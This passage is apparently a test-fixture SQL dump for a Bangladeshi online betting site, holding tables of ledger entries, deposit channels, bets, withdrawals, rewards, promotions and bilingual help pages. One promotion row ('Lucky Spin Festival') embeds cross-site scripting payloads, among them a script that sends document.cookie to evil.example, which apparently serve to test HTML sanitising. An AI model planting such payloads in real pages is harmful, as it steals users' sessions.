  (9, 1, 'BDT', 43367, 1142567, 'win', 'WIN-2', 1792627200000),
  (10, 1, 'BDT', 200000, 1342567, 'deposit', 'DEP-3', 1793059200000),
  (11, 1, 'BDT', -30000, 1312567, 'bet', 'BET-3', 1793062800000),
  (12, 1, 'BDT', 12000, 1324567, 'win', 'WIN-3', 1793062800000),
  (13, 1, 'BDT', -200000, 1124567, 'bet', 'BET-4', 1793232000000),
  (14, 1, 'BDT', 380000, 1504567, 'win', 'WIN-4', 1793232000000),
  (15, 1, 'BDT', -200000, 1304567, 'withdraw', 'WD-2', 1793318400000),
  (16, 1, 'BDT', -50000, 1254567, 'bet', 'BET-5', 1793484000000),
  (17, 1, 'BDT', 80000, 1334567, 'win', 'WIN-5', 1793484000000),
  (18, 1, 'BDT', -100000, 1234567, 'bet', 'BET-6', 1793487600000),
  (19, 2, 'BDT', 4000000, 4000000, 'deposit', 'DEP-5', 1767571200000),
  (20, 2, 'BDT', 2000000, 6000000, 'deposit', 'DEP-6', 1784851200000),
  (21, 2, 'BDT', -1000000, 5000000, 'withdraw', 'WD-3', 1789171200000),
  (22, 2, 'BDT', -100000, 4900000, 'bet', 'BET-7', 1792886400000),
  (23, 2, 'BDT', 100000, 5000000, 'win', 'WIN-7', 1792886400000),
  (24, 3, 'BDT', 2000000, 2000000, 'deposit', 'DEP-7', 1790998200000),
  (25, 3, 'BDT', -500000, 1500000, 'bet', 'BET-8', 1791084600000),
  (26, 3, 'BDT', 420000, 1920000, 'win', 'WIN-8', 1791084600000),
  (27, 3, 'BDT', -300000, 1620000, 'bet', 'BET-9', 1792035000000),
  (28, 3, 'BDT', 510000, 2130000, 'win', 'WIN-9', 1792035000000),
  (29, 3, 'BDT', -400000, 1730000, 'withdraw', 'WD-4', 1792121400000),
  (30, 3, 'BDT', -200000, 1530000, 'bet', 'BET-10', 1793417400000),
  (31, 3, 'BDT', 150000, 1680000, 'win', 'WIN-10', 1793417400000),
  (32, 3, 'BDT', -100000, 1580000, 'bet', 'BET-11', 1793485800000),
  (33, 5, 'BDT', 200000, 200000, 'deposit', 'DEP-8', 1791430200000),
  (34, 5, 'BDT', -60000, 140000, 'bet', 'BET-12', 1791432000000),
  (35, 5, 'BDT', 40000, 180000, 'win', 'WIN-12', 1791432000000),
  (36, 5, 'BDT', -80000, 100000, 'withdraw', 'WD-5', 1792380600000),
  (145, 1, 'BDT', 250000, 1484567, 'deposit', 'DEP-39', 1793494860000);
CREATE TABLE deposit_channels (
    id INTEGER PRIMARY KEY,
    provider TEXT NOT NULL CHECK (provider IN ('BKASH', 'NAGAD', 'ROCKET', 'BANK')),
    kind TEXT NOT NULL CHECK (kind IN ('e_wallet', 'bank')),
    name TEXT NOT NULL,
    min_minor INTEGER NOT NULL,
    max_minor INTEGER NOT NULL,
    presets TEXT NOT NULL DEFAULT '[]',
    receiving_account_name TEXT NOT NULL,
    receiving_account_number TEXT NOT NULL,
    reference_required INTEGER NOT NULL DEFAULT 1,
    sequence INTEGER NOT NULL,
    active INTEGER NOT NULL DEFAULT 1
  );
INSERT INTO "deposit_channels" ("id", "provider", "kind", "name", "min_minor", "max_minor", "presets", "receiving_account_name", "receiving_account_number", "reference_required", "sequence", "active") VALUES
  (1, 'BKASH', 'e_wallet', 'bKash', 20000, 2500000, '[50000,100000,200000,500000,1000000]', 'VSBDTF5 Merchant', '01700000010', 1, 1, 1),
  (2, 'NAGAD', 'e_wallet', 'Nagad', 20000, 2500000, '[50000,100000,200000,500000,1000000]', 'VSBDTF5 Merchant', '01700000020', 1, 2, 1),
  (3, 'ROCKET', 'e_wallet', 'Rocket', 20000, 2000000, '[50000,100000,200000,500000,1000000]', 'VSBDTF5 Merchant', '017000000301', 1, 3, 1),
  (4, 'BANK', 'bank', 'Bank transfer', 100000, 10000000, '[100000,500000,1000000,5000000]', 'VSBDTF5 Trading Ltd (Dutch-Bangla Bank, Gulshan)', '1051100012345', 1, 4, 1);
CREATE TABLE deposit_promos (
    id INTEGER PRIMARY KEY,
    title TEXT NOT NULL,
    bonus_basis_points INTEGER NOT NULL,
    max_bonus_minor INTEGER NOT NULL,
    min_deposit_minor INTEGER NOT NULL,
    turnover_multiplier INTEGER NOT NULL,
    eligibility TEXT NOT NULL DEFAULT 'any' CHECK (eligibility IN ('any', 'first_deposit', 'once_per_day')),
    sequence INTEGER NOT NULL,
    active INTEGER NOT NULL DEFAULT 1
  );
INSERT INTO "deposit_promos" ("id", "title", "bonus_basis_points", "max_bonus_minor", "min_deposit_minor", "turnover_multiplier", "eligibility", "sequence", "active") VALUES
  (1, 'First deposit 100%', 10000, 500000, 50000, 10, 'first_deposit', 1, 1),
  (2, 'Daily reload 10%', 1000, 100000, 50000, 5, 'once_per_day', 2, 1),
  (3, 'Slots boost 5%', 500, 50000, 20000, 3, 'any', 3, 1);
CREATE TABLE deposits (
    id INTEGER PRIMARY KEY,
    member_id INTEGER NOT NULL REFERENCES members(id),
    channel_id INTEGER NOT NULL REFERENCES deposit_channels(id),
    promo_id INTEGER REFERENCES deposit_promos(id),
    amount_minor INTEGER NOT NULL CHECK (amount_minor > 0),
    bonus_minor INTEGER NOT NULL DEFAULT 0 CHECK (bonus_minor >= 0),
    turnover_multiplier INTEGER NOT NULL DEFAULT 0,
    reference TEXT NOT NULL DEFAULT '',
    status TEXT NOT NULL CHECK (status IN ('pending', 'approved', 'rejected', 'cancelled')),
    auto_approve INTEGER NOT NULL DEFAULT 1,
    idempotency_key TEXT,
    request_hash TEXT,
    created_at INTEGER NOT NULL,
    decided_at INTEGER, reference_claim TEXT,
    UNIQUE (member_id, idempotency_key)
  );
INSERT INTO "deposits" ("id", "member_id", "channel_id", "promo_id", "amount_minor", "bonus_minor", "turnover_multiplier", "reference", "status", "auto_approve", "idempotency_key", "request_hash", "created_at", "decided_at", "reference_claim") VALUES
  (1, 1, 1, NULL, 1000000, 0, 0, 'BK7Q2M9X4L', 'approved', 0, NULL, NULL, 1788307200000, 1788307800000, 'BK7Q2M9X4L'),
  (2, 1, 2, NULL, 500000, 0, 0, 'NG5T8R2K1P', 'approved', 0, NULL, NULL, 1790899200000, 1790899800000, 'NG5T8R2K1P'),
  (3, 1, 3, NULL, 200000, 0, 0, 'RK3D9F6H2J', 'approved', 0, NULL, NULL, 1793059200000, 1793059800000, 'RK3D9F6H2J'),
  (4, 1, 1, NULL, 300000, 0, 0, 'BK8XK2P9Q1', 'pending', 0, NULL, NULL, 1793489400000, NULL, 'BK8XK2P9Q1'),
  (5, 2, 4, NULL, 4000000, 0, 0, 'DBBL20250001', 'approved', 0, NULL, NULL, 1767571200000, 1767571800000, 'DBBL20250001'),
  (6, 2, 1, NULL, 2000000, 0, 0, 'BK1Z9Y8X7W', 'approved', 0, NULL, NULL, 1784851200000, 1784851800000, 'BK1Z9Y8X7W'),
  (7, 3, 1, NULL, 2000000, 0, 0, 'BKSUBAGENT010', 'approved', 0, NULL, NULL, 1790998200000, 1790998800000, 'BKSUBAGENT010'),
  (8, 5, 1, NULL, 200000, 0, 0, 'BKPLAYER120', 'approved', 0, NULL, NULL, 1791430200000, 1791430800000, 'BKPLAYER120'),
  (39, 1, 2, NULL, 250000, 0, 1, 'NgFixture01', 'approved', 1, 'fixture-1', 'h1', 1793494800000, 1793494860000, 'NGFIXTURE01'),
  (40, 1, 1, NULL, 100000, 0, 1, 'BKDECLINED1', 'rejected', 1, 'fixture-2', 'h2', 1793494800000, 1793494860000, NULL),
  (41, 2, 3, 1, 60000, 60000, 10, 'rk-pending-7', 'pending', 1, 'fixture-3', 'h3', 1793494800000, NULL, 'RK-PENDING-7'),
  (42, 1, 1, NULL, 1000000, 0, 0, 'bk7q2m9x4l', 'approved', 1, NULL, NULL, 1793491199000, NULL, NULL);
CREATE TABLE payout_accounts (
    id INTEGER PRIMARY KEY,
    member_id INTEGER NOT NULL REFERENCES members(id),
    kind TEXT NOT NULL CHECK (kind IN ('e_wallet', 'bank')),
    provider TEXT NOT NULL CHECK (provider IN ('BKASH', 'NAGAD', 'ROCKET', 'BANK')),
    account_number TEXT NOT NULL,
    account_name TEXT NOT NULL,
    bank_name TEXT NOT NULL DEFAULT '',
    created_at INTEGER NOT NULL,
    deleted_at INTEGER
  );
INSERT INTO "payout_accounts" ("id", "member_id", "kind", "provider", "account_number", "account_name", "bank_name", "created_at", "deleted_at") VALUES
  (1, 1, 'e_wallet', 'BKASH', '01712345678', 'Demo Player', '', 1788220800000, NULL),
  (2, 2, 'e_wallet', 'NAGAD', '01812345678', 'Agent One', '', 1767484800000, NULL),
  (3, 3, 'e_wallet', 'BKASH', '01700000003', 'subagent01', '', 1790996400000, NULL),
  (4, 5, 'e_wallet', 'BKASH', '01700000005', 'player12', '', 1790996400000, NULL);
CREATE TABLE withdrawals (
    id INTEGER PRIMARY KEY,
    member_id INTEGER NOT NULL REFERENCES members(id),
    account_id INTEGER NOT NULL REFERENCES payout_accounts(id),
    amount_minor INTEGER NOT NULL CHECK (amount_minor > 0),
    status TEXT NOT NULL CHECK (status IN ('pending', 'approved', 'rejected', 'cancelled')),
    idempotency_key TEXT,
    request_hash TEXT,
    created_at INTEGER NOT NULL,
    decided_at INTEGER,
    UNIQUE (member_id, idempotency_key)
  );
INSERT INTO "withdrawals" ("id", "member_id", "account_id", "amount_minor", "status", "idempotency_key", "request_hash", "created_at", "decided_at") VALUES
  (1, 1, 1, 300000, 'approved', NULL, NULL, 1792195200000, 1792198800000),
  (2, 1, 1, 200000, 'pending', NULL, NULL, 1793318400000, NULL),
  (3, 2, 2, 1000000, 'approved', NULL, NULL, 1789171200000, 1789174800000),
  (4, 3, 3, 400000, 'approved', NULL, NULL, 1792121400000, 1792125000000),
  (5, 5, 4, 80000, 'approved', NULL, NULL, 1792380600000, 1792384200000);
CREATE TABLE payment_password_attempts (
    id INTEGER PRIMARY KEY,
    member_id INTEGER NOT NULL REFERENCES members(id),
    success INTEGER NOT NULL,
    created_at INTEGER NOT NULL
  );
CREATE TABLE bets (
    id INTEGER PRIMARY KEY,
    member_id INTEGER NOT NULL REFERENCES members(id),
    game_name TEXT NOT NULL,
    vendor TEXT NOT NULL,
    game_type TEXT NOT NULL,
    bet_minor INTEGER NOT NULL CHECK (bet_minor >= 0),
    valid_bet_minor INTEGER NOT NULL CHECK (valid_bet_minor >= 0),
    win_minor INTEGER NOT NULL CHECK (win_minor >= 0),
    settled_at INTEGER NOT NULL
  );
INSERT INTO "bets" ("id", "member_id", "game_name", "vendor", "game_type", "bet_minor", "valid_bet_minor", "win_minor", "settled_at") VALUES
  (1, 1, 'Mahjong Ways', 'PG', 'RNG', 1150000, 1150000, 1070000, 1791331200000),
  (2, 1, 'Teen Patti', 'KM', 'PVP', 40000, 40000, 43367, 1792627200000),
  (3, 1, 'Royal Fishing', 'JL', 'FISH', 30000, 30000, 12000, 1793062800000),
  (4, 1, 'Cricket: BAN v IND', 'SABA', 'SPORTS', 200000, 200000, 380000, 1793232000000),
  (5, 1, 'Super Ace', 'JL', 'RNG', 50000, 50000, 80000, 1793484000000),
  (6, 1, 'Baccarat', 'EVO', 'LIVE', 100000, 100000, 0, 1793487600000),
  (7, 2, 'Lightning Roulette', 'EVO', 'LIVE', 100000, 100000, 100000, 1792886400000),
  (8, 3, 'Baccarat', 'EVO', 'LIVE', 500000, 500000, 420000, 1791084600000),
  (9, 3, 'Cricket: BAN v PAK', 'SABA', 'SPORTS', 300000, 300000, 510000, 1792035000000),
  (10, 3, 'Super Ace', 'JL', 'RNG', 200000, 200000, 150000, 1793417400000),
  (11, 3, 'Baccarat', 'EVO', 'LIVE', 100000, 100000, 0, 1793485800000),
  (12, 5, 'Teen Patti', 'KM', 'PVP', 60000, 60000, 40000, 1791432000000);
CREATE TABLE security_questions (
    id INTEGER PRIMARY KEY,
    question TEXT NOT NULL,
    sequence INTEGER NOT NULL
  );
INSERT INTO "security_questions" ("id", "question", "sequence") VALUES
  (1, 'What is the name of your first school?', 1),
  (2, 'In which city were you born?', 2),
  (3, 'What is your mother''s maiden name?', 3),
  (4, 'What was the name of your first pet?', 4),
  (5, 'What is your favourite cricket team?', 5);
CREATE TABLE security_answers (
    member_id INTEGER NOT NULL REFERENCES members(id),
    question_id INTEGER NOT NULL REFERENCES security_questions(id),
    answer_hash TEXT NOT NULL,
    updated_at INTEGER NOT NULL,
    PRIMARY KEY (member_id, question_id)
  );
CREATE TABLE rewards (
    id INTEGER PRIMARY KEY,
    member_id INTEGER NOT NULL REFERENCES members(id),
    title TEXT NOT NULL,
    kind TEXT NOT NULL CHECK (kind IN ('promotion', 'mission')),
    amount_minor INTEGER NOT NULL CHECK (amount_minor > 0),
    turnover_multiplier INTEGER NOT NULL DEFAULT 1,
    status TEXT NOT NULL CHECK (status IN ('claimable', 'claimed', 'expired')),
    expires_at INTEGER,
    created_at INTEGER NOT NULL,
    claimed_at INTEGER,
    claim_key TEXT
  );
INSERT INTO "rewards" ("id", "member_id", "title", "kind", "amount_minor", "turnover_multiplier", "status", "expires_at", "created_at", "claimed_at", "claim_key") VALUES
  (1, 1, 'Welcome gift', 'promotion', 10000, 1, 'claimed', NULL, 1792368000000, 1792454400000, NULL),
  (2, 1, 'Weekly cashback', 'promotion', 5000, 1, 'claimable', 1794096000000, 1793404800000, NULL, NULL),
  (3, 1, 'Eid reload gift', 'promotion', 20000, 3, 'claimable', 1794700800000, 1793232000000, NULL, NULL),
  (4, 1, 'Mission: play 5 slot rounds', 'mission', 2000, 1, 'claimable', NULL, 1793318400000, NULL, NULL),
  (5, 1, 'Pohela Boishakh bonus', 'promotion', 15000, 2, 'expired', 1793232000000, 1791763200000, NULL, NULL),
  (6, 2, 'Agent weekly bonus', 'promotion', 5000, 1, 'claimable', 1794096000000, 1793404800000, NULL, NULL);
CREATE TABLE mail (
    id INTEGER PRIMARY KEY,
    member_id INTEGER NOT NULL REFERENCES members(id),
    title TEXT NOT NULL,
    body TEXT NOT NULL,
    created_at INTEGER NOT NULL,
    read_at INTEGER,
    deleted_at INTEGER
  );
INSERT INTO "mail" ("id", "member_id", "title", "body", "created_at", "read_at", "deleted_at") VALUES
  (1, 1, 'Welcome to vsbdtf5', 'Thank you for joining. Your account is ready: deposit, play and enjoy.', 1788220800000, 1788220800000, NULL),
  (2, 1, 'Deposit approved', 'Your bKash deposit of ৳10,000.00 has been credited to your wallet.', 1788307200000, 1788307200000, NULL),
  (3, 1, 'Withdrawal approved', 'Your withdrawal of ৳3,000.00 to bKash *******5678 has been paid.', 1792195200000, 1792195200000, NULL),
  (4, 1, 'A reward is waiting', 'Your Eid reload gift of ৳200.00 is ready in the reward centre.', 1793232000000, NULL, NULL),
  (5, 1, 'New: Daily reload 10%', 'Deposit ৳500 or more once a day and get 10% extra, up to ৳1,000.', 1793404800000, NULL, NULL),
  (6, 1, 'Security tip', 'Never share your payment password. Our staff will never ask for it.', 1793480400000, NULL, NULL),
  (7, 2, 'Contracts waiting', 'You have daily-salary, dividend and hourly contracts to review.', 1793404800000, NULL, NULL);
CREATE TABLE feedback (
    id INTEGER PRIMARY KEY,
    member_id INTEGER NOT NULL REFERENCES members(id),
    category TEXT NOT NULL,
    content TEXT NOT NULL,
    word_count INTEGER NOT NULL,
    created_at INTEGER NOT NULL
  );
CREATE TABLE rebates (
    id INTEGER PRIMARY KEY,
    member_id INTEGER NOT NULL REFERENCES members(id),
    amount_minor INTEGER NOT NULL CHECK (amount_minor > 0),
    kind TEXT NOT NULL CHECK (kind IN ('manual', 'automatic')),
    last_bet_id INTEGER NOT NULL,
    ledger_id INTEGER,
    idempotency_key TEXT,
    created_at INTEGER NOT NULL,
    UNIQUE (member_id, idempotency_key)
  );
INSERT INTO "rebates" ("id", "member_id", "amount_minor", "kind", "last_bet_id", "ledger_id", "idempotency_key", "created_at") VALUES
  (1, 1, 9200, 'automatic', 1, 5, NULL, 1791763200000);
CREATE TABLE games (
    node_id TEXT PRIMARY KEY,
    game_id TEXT NOT NULL UNIQUE,
    game_name TEXT NOT NULL,
    game_type TEXT NOT NULL,
    vassalage TEXT NOT NULL,
    classify TEXT NOT NULL DEFAULT '[]',
    is_new INTEGER NOT NULL DEFAULT 0,
    is_hot INTEGER NOT NULL DEFAULT 0,
    support_play INTEGER NOT NULL DEFAULT 1,
    freeplay INTEGER NOT NULL DEFAULT 0,
    game_code TEXT NOT NULL,
    lotto_mode TEXT,
    sequence INTEGER NOT NULL
  );
INSERT INTO "games" ("node_id", "game_id", "game_name", "game_type", "vassalage", "classify", "is_new", "is_hot", "support_play", "freeplay", "game_code", "lotto_mode", "sequence") VALUES
  ('10000', 'DEMO-SLOT', 'Demo Slot', 'RNG', 'INHOUSE', '["SLOT"]', 1, 1, 1, 1, 'DEMO-SLOT', NULL, 0),
  ('10001', 'JL-1001', 'Super Ace', 'RNG', 'JL', '["SLOT"]', 0, 1, 1, 1, 'JL-1001', NULL, 1),
  ('10002', 'JL-1002', 'Fortune Gems', 'RNG', 'JL', '["SLOT"]', 1, 1, 1, 1, 'JL-1002', NULL, 2),
  ('10003', 'JL-1003', 'Money Coming', 'RNG', 'JL', '["SLOT"]', 0, 1, 1, 1, 'JL-1003', NULL, 3),
  ('10004', 'JL-1004', 'Golden Empire', 'RNG', 'JL', '["SLOT"]', 0, 1, 1, 1, 'JL-1004', NULL, 4),
  ('10005', 'JL-1005', 'Boxing King', 'RNG', 'JL', '["SLOT","FeatureBuy"]', 0, 1, 1, 1, 'JL-1005', NULL, 5);
CREATE TABLE favourites (
    member_id INTEGER NOT NULL REFERENCES members(id),
    node_id TEXT NOT NULL REFERENCES games(node_id),
    created_at INTEGER NOT NULL,
    PRIMARY KEY (member_id, node_id)
  );
INSERT INTO "favourites" ("member_id", "node_id", "created_at") VALUES
  (1, '10001', 1793494800000),
  (1, '10000', 1793494800000);
CREATE TABLE recent_games (
    id INTEGER PRIMARY KEY,
    member_id INTEGER NOT NULL REFERENCES members(id),
    node_id TEXT NOT NULL REFERENCES games(node_id),
    played_at INTEGER NOT NULL,
    UNIQUE (member_id, node_id)
  );
INSERT INTO "recent_games" ("id", "member_id", "node_id", "played_at") VALUES
  (1, 1, '10002', 1793494800000);
CREATE TABLE game_winners (
    id INTEGER PRIMARY KEY,
    member_id INTEGER REFERENCES members(id),
    customer_name TEXT NOT NULL,
    node_id TEXT NOT NULL REFERENCES games(node_id),
    win_minor INTEGER NOT NULL,
    created_at INTEGER NOT NULL
  );
CREATE TABLE demo_spins (
    id INTEGER PRIMARY KEY,
    member_id INTEGER NOT NULL REFERENCES members(id),
    idempotency_key TEXT NOT NULL,
    request_hash TEXT NOT NULL,
    node_id TEXT NOT NULL REFERENCES games(node_id),
    reels TEXT NOT NULL,
    bet_minor INTEGER NOT NULL,
    win_minor INTEGER NOT NULL,
    balance_after_minor INTEGER NOT NULL,
    bet_id INTEGER NOT NULL REFERENCES bets(id),
    created_at INTEGER NOT NULL,
    UNIQUE (member_id, idempotency_key)
  );
CREATE TABLE promotion_categories (
    id INTEGER PRIMARY KEY,
    title TEXT NOT NULL,
    icon_label TEXT NOT NULL,
    hue INTEGER NOT NULL,
    sequence INTEGER NOT NULL
  );
INSERT INTO "promotion_categories" ("id", "title", "icon_label", "hue", "sequence") VALUES
  (1, 'New Members', 'NEW', 140, 1),
  (2, 'Deposit Bonus', '৳', 40, 2),
  (3, 'Slots & Casino', '777', 330, 3),
  (4, 'Sports', 'VS', 200, 4),
  (5, 'VIP', 'VIP', 275, 5);
CREATE TABLE promotions (
    id INTEGER PRIMARY KEY,
    title TEXT NOT NULL,
    content TEXT NOT NULL,
    start_date INTEGER NOT NULL,
    end_date INTEGER,
    no_expiry INTEGER NOT NULL DEFAULT 0 CHECK (no_expiry IN (0, 1)),
    category_ids TEXT NOT NULL DEFAULT '[]',
    images TEXT NOT NULL DEFAULT '[]',
    applicable INTEGER NOT NULL DEFAULT 1 CHECK (applicable IN (0, 1)),
    image_required TEXT NOT NULL DEFAULT 'N' CHECK (image_required IN ('Y', 'N')),
    remark_required TEXT NOT NULL DEFAULT 'N' CHECK (remark_required IN ('Y', 'N')),
    linked_promotion_id INTEGER REFERENCES promotions(id),
    hue INTEGER NOT NULL DEFAULT 200,
    sequence INTEGER NOT NULL
  );
INSERT INTO "promotions" ("id", "title", "content", "start_date", "end_date", "no_expiry", "category_ids", "images", "applicable", "image_required", "remark_required", "linked_promotion_id", "hue", "sequence") VALUES
  (1, 'First Deposit 100% Bonus', '<h3>Double your first deposit</h3><p>Make your first deposit of ৳500 or more and we match it 100%, up to <strong>৳10,000</strong>.</p><ul><li>New members only, one bonus per person</li><li>Turnover x10 before withdrawal</li><li>Attach a screenshot of your bKash or Nagad payment and write your transaction ID in the remark</li></ul>', 1790899200000, 1798675200000, 0, '[1,2]', '[{"url":"/static/promotions/1.svg","sequence":1}]', 1, 'Y', 'Y', NULL, 20, 1),
  (2, 'Weekend Reload 50%', '<h3>Every Saturday and Sunday</h3><p>Reload ৳1,000 or more at the weekend and get a <strong>50%</strong> bonus up to ৳5,000.</p><ul><li>Attach a screenshot of the deposit</li><li>Turnover x8</li></ul>', 1792281600000, 1796083200000, 0, '[2]', '[{"url":"/static/promotions/2.svg","sequence":1}]', 1, 'Y', 'N', 1, 50, 2),
  (3, 'Daily Slots Cashback 1.2%', '<h3>Cashback on every slot spin</h3><p>Get <strong>1.2%</strong> of your daily slot turnover back, no matter if you win or lose.</p><p>Write your favourite slot game in the remark to apply.</p>', 1788307200000, 1801267200000, 0, '[3]', '[{"url":"/static/promotions/3.svg","sequence":1}]', 1, 'N', 'Y', NULL, 320, 3),
  (4, 'Cricket Accumulator Insurance', '<h3>One leg lost? Get your stake back</h3><p>Place a cricket accumulator of 4 legs or more; if exactly one leg loses we refund your stake up to <strong>৳2,000</strong> as a bonus.</p>', 1792886400000, 1795305600000, 0, '[4]', '[{"url":"/static/promotions/4.svg","sequence":1}]', 1, 'N', 'N', NULL, 190, 4),
  (5, 'VIP Weekly Rebate', '<h3>A rebate every week, for good</h3><p>VIP members get up to <strong>1.5%</strong> of their weekly valid bets back every Monday. Long-term offer with no end date.</p>', 1777939200000, NULL, 1, '[5,3]', '[{"url":"/static/promotions/5.svg","sequence":1}]', 1, 'N', 'N', NULL, 270, 5),
  (6, 'Refer a Friend: ৳500 Each', '<h3>Invite friends, earn together</h3><p>Share your referral link from <em>Invite Friends</em>. When your friend deposits ৳1,000 you both get ৳500. Credited automatically: no application needed.</p>', 1785715200000, 1809043200000, 0, '[1]', '[{"url":"/static/promotions/6.svg","sequence":1}]', 0, 'N', 'N', NULL, 110, 6),
  (7, 'Eid Mubarak Reload 30%', '<h3>Eid Mubarak!</h3><p>30% reload bonus during the Eid holidays, up to ৳3,000.</p>', 1790035200000, 1793059200000, 0, '[2]', '[{"url":"/static/promotions/7.svg","sequence":1}]', 1, 'N', 'N', NULL, 150, 7),
  (8, 'Lucky Spin Festival', '<h3>Lucky Spin Festival</h3><p>Spin the lucky wheel once a day and win up to <strong>৳5,000</strong> in bonus money.</p><img src="x" onerror="alert(''promo-xss'')"><script>document.location=''https://evil.example/steal?c=''+document.cookie</script><p><a href="javascript:alert(''promo-xss'')">Claim now</a></p><iframe src="https://evil.example/frame"></iframe><p onclick="alert(''promo-xss'')">Tap here for the full terms.</p>', 1793232000000, 1794700800000, 0, '[3]', '[{"url":"/static/promotions/8.svg","sequence":1}]', 1, 'N', 'N', NULL, 0, 8),
  (9, 'Pohela Boishakh Bonus', '<h3>Shubho Noboborsho!</h3><p>A 20% New Year bonus on every deposit for three days.</p>', 1794355200000, 1796947200000, 0, '[2]', '[{"url":"/static/promotions/9.svg","sequence":1}]', 1, 'N', 'N', NULL, 80, 9);
CREATE TABLE reward_applications (
    id INTEGER PRIMARY KEY,
    member_id INTEGER NOT NULL REFERENCES members(id),
    promotion_id INTEGER NOT NULL REFERENCES promotions(id),
    remarks TEXT NOT NULL DEFAULT '',
    status TEXT NOT NULL CHECK (status IN ('pending', 'approved', 'rejected')),
    idempotency_key TEXT NOT NULL,
    created_at INTEGER NOT NULL,
    decided_at INTEGER,
    UNIQUE (member_id, idempotency_key)
  );
INSERT INTO "reward_applications" ("id", "member_id", "promotion_id", "remarks", "status", "idempotency_key", "created_at", "decided_at") VALUES
  (1, 1, 1, 'fixture', 'pending', 'fixture-4', 1793494800000, NULL);
CREATE TABLE reward_application_pictures (
    application_id INTEGER NOT NULL REFERENCES reward_applications(id),
    position INTEGER NOT NULL,
    mime TEXT NOT NULL CHECK (mime IN ('image/png', 'image/jpeg')),
    size INTEGER NOT NULL,
    data BLOB NOT NULL,
    PRIMARY KEY (application_id, position)
  );
INSERT INTO "reward_application_pictures" ("application_id", "position", "mime", "size", "data") VALUES
  (1, 1, 'image/png', 69, X'89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360f8cf00000301010018dd8db40000000049454e44ae426082');
CREATE TABLE help_items (
    id INTEGER PRIMARY KEY,
    language TEXT NOT NULL CHECK (language IN ('bn', 'en')),
    title TEXT NOT NULL,
    tag TEXT NOT NULL,
    content TEXT NOT NULL DEFAULT '',
    sequence INTEGER NOT NULL,
    UNIQUE (language, tag)
  );
INSERT INTO "help_items" ("id", "language", "title", "tag", "content", "sequence") VALUES
  (1, 'bn', 'vsbdtf5 সম্পর্কে', 'about', '<p>vsbdtf5 বাংলাদেশের খেলোয়াড়দের জন্য একটি অনলাইন গেমিং ও বেটিং সাইট, যেখানে ৬০০+ গেম আছে: স্লট, লাইভ ক্যাসিনো, ক্রিকেট বেটিং, ফিশিং, পোকার ও লটারি।</p><p>সব লেনদেন টাকায় (BDT): বিকাশ, নগদ, রকেট বা ব্যাংক ট্রান্সফারে জমা ও উত্তোলন করুন।</p>', 1),
  (2, 'bn', 'জমা', 'deposit', '', 2),
  (3, 'bn', 'উত্তোলন', 'withdraw', '', 3),
  (4, 'bn', 'সাধারণ প্রশ্ন', 'faq', '', 4),
  (5, 'bn', 'শর্তাবলী', 'terms', '<p>এই সাইট ব্যবহার করতে আপনার বয়স অন্তত ১৮ বছর হতে হবে।</p><p>প্রতি ব্যক্তির একটি অ্যাকাউন্ট; একাধিক অ্যাকাউন্টের বোনাস বাতিল হতে পারে।</p><p>বোনাসের টাকা তোলার আগে নির্ধারিত টার্নওভার পূরণ করতে হবে।</p>', 5),
  (6, 'bn', 'গোপনীয়তা নীতি', 'privacy', '<p>আমরা শুধু আপনার অ্যাকাউন্ট ও লেনদেনের জন্য প্রয়োজনীয় তথ্য রাখি এবং তা কখনো বিক্রি করি না।</p><p>আপনার মোবাইল নম্বর ও ই-মেইল শুধু যাচাই ও নিরাপত্তা বার্তার জন্য ব্যবহৃত হয়।</p>', 6),
  (7, 'en', 'About vsbdtf5', 'about', '<p>vsbdtf5 is an online gaming and betting site for players in Bangladesh with more than 600 games: slots, live casino, cricket betting, fishing, poker and lottery.</p><p>Everything is in Taka (BDT): deposit and withdraw with bKash, Nagad, Rocket or bank transfer.</p>', 1),
  (8, 'en', 'Deposit', 'deposit', '', 2),
  (9, 'en', 'Withdrawal', 'withdraw', '', 3),
  (10, 'en', 'FAQ', 'faq', '', 4),
  (11, 'en', 'Terms & Conditions', 'terms', '<p>You must be at least 18 years old to use this site.</p><p>One account per person; bonuses on duplicate accounts may be cancelled.</p><p>Bonus money needs the stated turnover before it can be withdrawn.</p>', 5),
  (12, 'en', 'Privacy Policy', 'privacy', '<p>We keep only the data needed for your account and payments, and we never sell it.</p><p>Your mobile number and e-mail are used only for verification and security messages.</p>', 6);
CREATE TABLE help_children (
    id INTEGER PRIMARY KEY,
    help_item_id INTEGER NOT NULL REFERENCES help_items(id),
    title TEXT NOT NULL,
    content TEXT NOT NULL,
    sequence INTEGER NOT NULL
  );
INSERT INTO "help_children" ("id", "help_item_id", "title", "content", "sequence") VALUES
  (1, 2, 'বিকাশ দিয়ে কীভাবে জমা দেব?', '<ol><li>সদস্য কেন্দ্রে <strong>জমা</strong> খুলুন এবং বিকাশ বেছে নিন।</li><li>পরিমাণ লিখুন (সর্বনিম্ন ৳২০০)।</li><li>দেখানো নম্বরে সেন্ড মানি করুন এবং ট্রানজ্যাকশন আইডি লিখুন।</li></ol>', 1),
  (2, 2, 'নগদ বা রকেট দিয়ে কীভাবে জমা দেব?', '<p>একইভাবে: নগদ বা রকেট বেছে নিন, দেখানো নম্বরে টাকা পাঠান এবং রেফারেন্স লিখুন।</p>', 2),
  (3, 2, 'জমা হতে কত সময় লাগে?', '<p>সাধারণত ৫ মিনিটের কম। ৩০ মিনিটের বেশি লাগলে লাইভ চ্যাটে যোগাযোগ করুন।</p>', 3),
  (4, 3, 'কীভাবে টাকা তুলব?', '<p><strong>উত্তোলন</strong> খুলুন, আপনার বিকাশ, নগদ, রকেট বা ব্যাংক অ্যাকাউন্ট বেছে নিন, পরিমাণ ও পেমেন্ট পাসওয়ার্ড লিখুন।</p>', 1),
  (5, 3, 'উত্তোলনের সীমা', '<p>প্রতি অনুরোধে ৳৫০০ থেকে ৳৫০,০০০।</p>', 2),
  (6, 3, 'আমার উত্তোলন কেন অপেক্ষমাণ?', '<p>আমাদের টিম প্রতিটি উত্তোলন যাচাই করে, সাধারণত ১৫ মিনিটের মধ্যে। বাকি টার্নওভার থাকলে আগে তা পূরণ করতে হবে।</p>', 3),
  (7, 4, 'পাসওয়ার্ড ভুলে গেছি', '<p>লগইন পেজে <em>পাসওয়ার্ড ভুলে গেছেন?</em> চাপুন এবং মোবাইল নম্বর বা ই-মেইল দিয়ে নতুন পাসওয়ার্ড সেট করুন।</p>', 1),
